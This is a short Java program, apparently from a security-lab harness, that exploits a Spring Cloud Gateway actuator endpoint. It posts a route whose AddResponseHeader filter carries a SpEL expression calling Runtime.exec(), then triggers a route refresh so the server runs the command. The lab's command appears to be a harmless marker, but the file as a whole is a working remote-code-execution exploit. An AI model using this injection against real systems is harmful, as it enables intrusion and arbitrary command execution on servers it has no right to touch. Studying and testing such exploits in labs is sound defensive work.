import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String expression =
        "#{T(java.lang.Runtime).getRuntime().exec('" + Attacker.touch() + "').toString()}";
    String route =
        "{\"id\":\"x\",\"uri\":\"http://127.0.0.1:9\",\"predicates\":[],\"filters\":"
            + "[{\"name\":\"AddResponseHeader\",\"args\":{\"name\":\"r\",\"value\":\""
            + expression
            + "\"}}]}";
    Attacker.post("/actuator/gateway/routes/x", route, "Content-Type", "application/json");
    Attacker.post("/actuator/gateway/refresh", "", "Content-Type", "application/json");
    Attacker.done();
  }
}
